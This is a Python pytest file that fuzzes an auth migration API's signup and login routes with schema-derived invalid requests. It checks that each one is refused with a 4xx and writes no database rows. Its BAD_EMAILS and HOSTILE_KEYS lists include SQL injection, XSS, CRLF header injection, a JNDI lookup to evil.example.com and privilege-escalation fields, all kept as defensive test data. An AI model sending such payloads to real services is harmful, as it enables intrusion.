"""The auth API over the REAL service (real Better-Auth server, GoTrue stand-in, one Postgres): a schema-driven
fuzz of hostile requests gets only 4xx refusals and writes nothing anywhere; valid requests still work.

The generator reads the request models from the API's own OpenAPI document (required fields, types, lengths,
formats, additionalProperties) and derives, per route, every single violation plus seeded random
combinations of them, malformed and truncated JSON, non-object bodies, wrong media types, oversize bodies
and unknown routes: every request is invalid by construction.
"""

from __future__ import annotations

import json
import random
import uuid
from collections import Counter
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import Any, Final, cast

import pytest
from aws_lambda_powertools.event_handler import APIGatewayRestResolver
from aws_lambda_powertools.utilities.typing import LambdaContext

from auth_migration.backends.base import BETTER_AUTH, SUPABASE
from auth_migration.dual_write.api import MAX_BODY_BYTES, build_resolver, handle_api_event, openapi_schema
from auth_migration.dual_write.api_models import METADATA_MAX_BYTES
from auth_migration.dual_write.passwords import BCRYPT_MAX_BYTES
from auth_migration.flags import Flags, MigrationMode
from auth_migration_ops.local.invoke import LocalLambdaContext
from tests.integration.plugins.dual_write import DualWriteStack

SIGNUP, LOGIN = "/auth/signup", "/auth/login"
SECRET: Final = "H0stile-Secret-canary"
SOURCE_IP: Final = "198.51.100.23"
TABLES: Final = (
    "auth.users",
    '"user"',
    "account",
    "session",
    "migrated_users",
    "user_migration_status",
    "dual_write_gaps",
    "auth_events",
)

MIN_REQUESTS: Final = 1000


# The runtime context the local invoke builds, with a countdown far beyond any test.
CONTEXT = cast(
    LambdaContext, LocalLambdaContext(function_name="auth-api-hostile", timeout_s=3600, memory_limit_in_mb=256)
)


@dataclass(frozen=True)
class Request:
    label: str
    path: str
    body: str | None
    content_type: str | None = "application/json"
    method: str = "POST"


@dataclass(frozen=True)
class Reply:
    status: int
    text: str
    headers: dict[str, str]


def event(request: Request) -> dict[str, Any]:
    headers = {"Host": "api.example.com", "X-Forwarded-For": SOURCE_IP}
    if request.content_type is not None:
        headers["Content-Type"] = request.content_type
    return {
        "resource": request.path,
        "path": request.path,
        "httpMethod": request.method,
        "headers": headers,
        "multiValueHeaders": {k: [v] for k, v in headers.items()},
        "queryStringParameters": None,
        "multiValueQueryStringParameters": None,
        "pathParameters": None,
        "stageVariables": None,
        "requestContext": {
            "resourcePath": request.path,
            "httpMethod": request.method,
            "path": f"/dev{request.path}",
            "stage": "dev",
            "requestId": str(uuid.uuid4()),
            "identity": {"sourceIp": SOURCE_IP},
            "accountId": "123456789012",
            "apiId": "abcdefghij",
        },
        "body": request.body,
        "isBase64Encoded": False,
    }


def invoke(app: APIGatewayRestResolver, request: Request) -> Reply:
    """What API Gateway answers: the function's reply, or its 502 when the function raised."""
    try:
        raw = handle_api_event(event(request), CONTEXT, app)
    except Exception as exc:  # an unhandled error in Lambda is API Gateway's 502
        return Reply(502, f"{type(exc).__name__}: {exc}", {})
    headers = {str(k).lower(): str(v) for k, v in (raw.get("headers") or {}).items()}
    for key, values in (raw.get("multiValueHeaders") or {}).items():
        headers[str(key).lower()] = str(values[-1])
    return Reply(int(raw["statusCode"]), str(raw.get("body") or ""), headers)


def make_app(stack: DualWriteStack, *, better_auth_primary: bool = False) -> APIGatewayRestResolver:
    service = stack.service()
    flags = Flags(migration_mode=MigrationMode.DUAL_WRITE, use_better_auth=better_auth_primary)
    return build_resolver(lambda: service, lambda: flags)


def counts(stack: DualWriteStack) -> dict[str, int]:
    return {table: int(stack.query(f"SELECT count(*) FROM {table}")[0][0]) for table in TABLES}


# --- the generator ------------------------------------------------------------------------------------------

# Invalid per EmailStr (email-validator without DNS); each is checked by the fuzz (a 200 would fail it).
BAD_EMAILS: Final = [
    "",
    " ",
    "plainaddress",
    "@example.com",
    "ada@",
    "ada@@example.com",
    "a@b@example.com",
    "ada@localhost",
    "ada@example",
    "ada@.example.com",
    "ada@example..com",
    "ada.@example.com",
    ".ada@example.com",
    "ada..lovelace@example.com",
    "ada@-example.com",
    "ada@example.com.",
    "ada@exa_mple.com",
    "ada@[127.0.0.1]",
    "ada@example.invalid",
    "ada@example.local",
    '"ada lovelace"@example.com',
    "ada lovelace@example.com",
    "ada@example com",
    "ada\u0000@example.com",
    "ada@example.com\r\nBcc: victim@example.com",
    "<script>alert(1)</script>@example.com",
    "x'; DROP TABLE auth.users; --@example.com",
    "' OR '1'='1' --",
    "admin'--",
    "1; SELECT pg_sleep(5)",
    "${jndi:ldap://evil.example.com/a}",
    "ada@xn--zz.com",
    "ada@123.123.123.123",
    "ada@" + "a" * 64 + ".com",
    ("a" * 60 + ".") * 4 + "@example.com",  # over 254 characters
    "a" * 300 + "@example.com",
    "😀@😀",
    "\u202eada@example.com",
]
WRONG_TYPED: Final[list[Any]] = [0, -1, 3.14, True, False, [], ["x"], {}, {"value": "x"}]
HOSTILE_KEYS: Final = [
    "id",
    "role",
    "is_admin",
    "user_id",
    "Email",
    "PASSWORD",
    "email ",
    "__proto__",
    "constructor",
    '\'; DROP TABLE "user"; --',
    "",
    "\u0000",
    "😀",
    "password_hash",
    "emailVerified",
    "app_metadata",
]


def _pick_schema(document: Mapping[str, Any], path: str) -> dict[str, Any]:
    ref = document["paths"][path]["post"]["requestBody"]["content"]["application/json"]["schema"]["$ref"]
    schema: dict[str, Any] = document["components"]["schemas"][ref.rsplit("/", 1)[1]]
    return schema


def _types(prop: Mapping[str, Any]) -> set[str]:
    if "type" in prop:
        return {prop["type"]}
    return {option["type"] for option in prop.get("anyOf", ())}


class Generator:
    """Hostile bodies for one route, derived from its request schema."""

    def __init__(self, path: str, schema: Mapping[str, Any], rng: random.Random) -> None:
        self.path = path
        self.schema = schema
        self.rng = rng
        self.props: dict[str, Any] = dict(schema["properties"])
        self.required: set[str] = set(schema.get("required", ()))
        self.serial = 0

    # a valid baseline; every request below breaks it somewhere
    def email(self) -> str:
        self.serial += 1
        return f"hostile-{self.serial}-{self.rng.randrange(10**9)}@example.com"

    def password(self) -> str:
        return f"{SECRET}-{self.rng.randrange(10**6)}"  # within both routes' bounds

    def valid(self) -> dict[str, Any]:
        body: dict[str, Any] = {"email": self.email(), "password": self.password()}
        if "metadata" in self.props:
            body["metadata"] = {"full_name": "Hostile Tester"}
        return body

    def field_violations(self, name: str) -> Iterator[tuple[str, Any]]:
        """(label, value) pairs that make field `name` invalid; the sentinel MISSING removes it."""
        prop = self.props[name]
        allowed = _types(prop)
        if name in self.required:
            yield "missing", MISSING
        if "null" not in allowed:
            yield "null", None
        for value in WRONG_TYPED:
            kind = {bool: "boolean", int: "integer", float: "number", list: "array", dict: "object"}[type(value)]
            if kind not in allowed:
                yield f"type-{kind}", value
        if "string" in allowed:
            if prop.get("minLength", 0) > 0:
                yield "below-minLength", "x" * (prop["minLength"] - 1)
            if "maxLength" in prop:
                yield "above-maxLength", (SECRET * (prop["maxLength"] // len(SECRET) + 2))[: prop["maxLength"] + 1]
            if prop.get("format") == "email":
                for index, bad in enumerate(BAD_EMAILS):
                    yield f"bad-email-{index}", bad
        if name == "password" and self.path == SIGNUP:
            # Beyond the schema's character bounds: bcrypt's byte limit and the blank check.
            yield "over-72-bytes-emoji", "😀" * 30
            yield "over-72-bytes-mixed", SECRET + "é" * (BCRYPT_MAX_BYTES - len(SECRET))
            yield "blank", " " * 12
            yield "blank-unicode", "\u3000\t\n\r\u2003 \u00a0\u2028 "
        if name == "metadata":
            yield "too-big", {"bio": "x" * METADATA_MAX_BYTES}
            yield "too-big-unicode", {"bio": "é" * (METADATA_MAX_BYTES // 2 + 1)}
            yield "too-deep", {"a": {"b": {"c": {"d": {"e": SECRET}}}}}
            yield "too-deep-list", {"a": [[[[SECRET]]]]}
            yield "string", SECRET
            yield "list-of-objects", [{"full_name": "x"}]

    def single_violations(self) -> Iterator[Request]:
        for name in self.props:
            for label, value in self.field_violations(name):
                body = self.valid()
                if value is MISSING:
                    del body[name]
                else:
                    body[name] = value
                yield self.request(f"{name}:{label}", json.dumps(body))
        for key in HOSTILE_KEYS:
            if key in self.props:
                continue
            body = self.valid()
            body[key] = SECRET if key != "role" else "service_role"
            yield self.request(f"extra:{key!r}", json.dumps(body))

    def body_violations(self) -> Iterator[Request]:
        for label, text in [
            ("empty", ""),
            ("whitespace", " \n\t"),
            ("null", "null"),
            ("array", json.dumps([self.email(), self.password()])),
            ("array-of-array-of-object", json.dumps([[self.valid()]])),
            ("array-of-invalid-object", json.dumps([{**self.valid(), "role": "admin"}])),
            ("string", json.dumps(self.password())),
            ("number", "123"),
            ("true", "true"),
            ("object-empty", "{}"),
            ("not-json", "email=a@b.co&password=" + SECRET),
            ("single-quotes", str(self.valid())),
            ("trailing-comma", json.dumps(self.valid())[:-1] + ",}"),
            ("two-objects", json.dumps(self.valid()) + json.dumps(self.valid())),
            ("comment", "/* x */" + json.dumps(self.valid())),
            ("nul-byte", json.dumps(self.valid())[:-1] + "\u0000}"),
            ("bom", "\ufeff" + json.dumps(self.valid())),
        ]:
            yield self.request(f"body:{label}", text)
        full = json.dumps(self.valid())
        for cut in range(len(full)):  # every truncation of a valid body
            yield self.request(f"body:truncated-{cut}", full[:cut])
        yield self.request("body:oversize", json.dumps({**self.valid(), "pad": "x" * MAX_BODY_BYTES}))
        for content_type in [
            None,
            "",
            "text/plain",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "application/xml",
            "text/json",
            "application/jsonp",
            "application/json-seq",
        ]:
            yield self.request(f"content-type:{content_type!r}", json.dumps(self.valid()), content_type=content_type)

    def combined(self, count: int) -> Iterator[Request]:
        """Seeded random combinations of 1-3 single-field violations (each keeps the body invalid)."""
        pool = [(name, label, value) for name in self.props for label, value in self.field_violations(name)]
        for index in range(count):
            body = self.valid()
            chosen = self.rng.sample(pool, self.rng.randint(1, 3))
            for name, _label, value in chosen:
                if value is MISSING:
                    body.pop(name, None)
                else:
                    body[name] = value
            if self.rng.random() < 0.3:
                body[self.rng.choice([k for k in HOSTILE_KEYS if k not in self.props])] = SECRET
            labels = "+".join(f"{name}:{label}" for name, label, _ in chosen)
            yield self.request(f"combo-{index}:{labels}", json.dumps(body, ensure_ascii=self.rng.random() < 0.5))

    def request(self, label: str, body: str | None, *, content_type: str | None = "application/json") -> Request:
        return Request(f"{self.path} {label}", self.path, body, content_type)


MISSING: Final = object()


def hostile_requests(document: Mapping[str, Any], *, seed: int = 20240601, combos: int = 400) -> list[Request]:
    rng = random.Random(seed)
    requests: list[Request] = []
    for path in (SIGNUP, LOGIN):
        generator = Generator(path, _pick_schema(document, path), rng)
        requests += [*generator.single_violations(), *generator.body_violations(), *generator.combined(combos)]
    valid = json.dumps({"email": "routed@example.com", "password": SECRET})
    for method, path in [
        ("POST", "/auth/logout"),
        ("POST", "/auth/signup/../login"),
        ("POST", "/Auth/Signup"),
        ("POST", "/auth/signup/x"),
        ("GET", SIGNUP),
        ("PUT", SIGNUP),
        ("DELETE", LOGIN),
        ("PATCH", LOGIN),
        ("GET", "/auth/admin/users"),
        ("POST", "/"),
    ]:
        requests.append(Request(f"route:{method} {path}", path, valid, method=method))
    return requests


# --- the tests --------------------------------------------------------------------------------------------------


@pytest.mark.slow
def test_hostile_requests_get_only_4xx_and_write_nothing(dual_write_stack: DualWriteStack) -> None:
    stack = dual_write_stack
    apps = [make_app(stack), make_app(stack, better_auth_primary=True)]
    requests = hostile_requests(openapi_schema(apps[0]))
    assert len(requests) >= MIN_REQUESTS, len(requests)
    assert counts(stack) == dict.fromkeys(TABLES, 0)

    statuses: Counter[int] = Counter()
    failures: list[str] = []
    for index, request in enumerate(requests):
        reply = invoke(apps[index % 2], request)
        statuses[reply.status] += 1
        problems = []
        if not 400 <= reply.status < 500:
            problems.append(f"status {reply.status}")
        else:
            try:
                parsed = json.loads(reply.text)
            except ValueError:
                parsed = None
            if not (isinstance(parsed, dict) and isinstance(parsed.get("error"), str) and parsed.get("message")):
                problems.append("reply is not {error, message} JSON")
            if reply.headers.get("cache-control") != "no-store":
                problems.append("no Cache-Control: no-store")
        if SECRET in reply.text:
            problems.append("the password canary is echoed")
        if problems:
            failures.append(f"{request.label}: {', '.join(problems)}: {reply.text[:200]}")

    print(f"hostile requests: {len(requests)}; statuses: {dict(sorted(statuses.items()))}")
    assert failures == [], "\n".join(failures[:40])
    assert statuses[400] > 0
    assert statuses[404] > 0
    assert statuses[413] > 0
    assert statuses[415] > 0
    # Not one row anywhere: no user in either system, no claim, no status, no gap, not even an auth event.
    assert counts(stack) == dict.fromkeys(TABLES, 0)
    assert stack.queue.messages == []

    # The same apps do work: a valid signup per primary lands in both systems with one id; login works.
    for app, primary in zip(apps, (SUPABASE, BETTER_AUTH), strict=True):
        email = f"valid-{primary}-{uuid.uuid4().hex[:8]}@example.com"
        password = f"valid password {primary}"
        body = json.dumps({"email": email, "password": password, "metadata": {"full_name": "Valid User"}})
        signed_up = invoke(app, Request("valid signup", SIGNUP, body))
        assert signed_up.status == 200, signed_up
        reply = json.loads(signed_up.text)
        assert reply["system"] == primary
        assert reply["session"]["access_token"]
        assert stack.holders(email) == (reply["user"]["id"], reply["user"]["id"])
        login = invoke(app, Request("valid login", LOGIN, json.dumps({"email": email.upper(), "password": password})))
        assert login.status == 200, login
        assert json.loads(login.text)["user"]["id"] == reply["user"]["id"]
        assert password not in signed_up.text + login.text
    assert stack.query("SELECT count(*) FROM dual_write_gaps") == [(0,)]


# --- hostile requests that once got through (fixed; kept as regressions) -------------------------------------


def _assert_refused_and_nothing_written(stack: DualWriteStack, reply: Reply, *, events_ok: bool = False) -> None:
    """A 4xx and no row anywhere (`events_ok`: an auth_events row for a request an auth system refused)."""
    assert 400 <= reply.status < 500, reply
    assert SECRET not in reply.text
    written = counts(stack)
    if events_ok:
        written.pop("auth_events")
    assert written == dict.fromkeys(written, 0)
    assert stack.queue.messages == []


@pytest.mark.parametrize("path", [SIGNUP, LOGIN])
def test_array_wrapped_body_is_refused(dual_write_stack: DualWriteStack, path: str) -> None:
    stack = dual_write_stack
    app = make_app(stack)
    body = {"email": f"wrapped-{uuid.uuid4().hex[:8]}@example.com", "password": f"{SECRET}-wrapped"}
    reply = invoke(app, Request("array-wrapped", path, json.dumps([body, "ignored"])))
    assert reply.status == 400, reply  # a login reaching the service answers 401 and records an auth event
    _assert_refused_and_nothing_written(stack, reply)


_NON_FINITE = (
    "api_models.py _metadata accepts NaN/Infinity (Python's json parses them); httpx refuses to send them "
    "(ValueError, allow_nan=False) -> unhandled 502. With Better-Auth primary the user is ALREADY created in "
    "Better-Auth when GoTrue's admin create raises, and service._write_other catches only BackendError/"
    "psycopg.Error: a one-sided user, no gap, nothing queued"
)
_NUL_SUPABASE = (
    "metadata holding U+0000 passes validation; Postgres text/jsonb cannot store it: GoTrue's signup fails "
    "-> 503 'unavailable' (a 5xx for bad input) plus an 'uncertain' gap that cannot be recorded either"
)
_NUL_BETTER_AUTH = (
    "metadata holding U+0000 passes validation: Better-Auth (primary) creates the user, GoTrue refuses it, "
    "the gap row cannot be stored (jsonb rejects U+0000) and is queued whole without metadata or hash: "
    "a one-sided user for bad input"
)


@pytest.mark.parametrize(
    ("primary", "metadata"),
    [
        pytest.param(SUPABASE, '{"score":NaN}'),
        pytest.param(BETTER_AUTH, '{"score":NaN}'),
        pytest.param(SUPABASE, '{"score":-Infinity}'),
        pytest.param(BETTER_AUTH, '{"score":1e999}'),
        pytest.param(SUPABASE, '{"bio":"a\\u0000b"}'),
        pytest.param(SUPABASE, '{"full_name":"\\u0000"}'),
        pytest.param(BETTER_AUTH, '{"bio":"a\\u0000b"}'),
        pytest.param(BETTER_AUTH, '{"\\u0000":1}'),
        # Better-Auth refuses a NUL in the name itself (400) before anything is written: already right.
        pytest.param(BETTER_AUTH, '{"full_name":"\\u0000"}'),
    ],
)
def test_unstorable_metadata_is_refused_and_writes_nothing(
    dual_write_stack: DualWriteStack, primary: str, metadata: str
) -> None:
    stack = dual_write_stack
    app = make_app(stack, better_auth_primary=primary == BETTER_AUTH)
    email = f"meta-{uuid.uuid4().hex[:8]}@example.com"
    body = '{"email":"' + email + '","password":"' + SECRET + '","metadata":' + metadata + "}"
    reply = invoke(app, Request("unstorable metadata", SIGNUP, body))
    _assert_refused_and_nothing_written(stack, reply, events_ok=True)
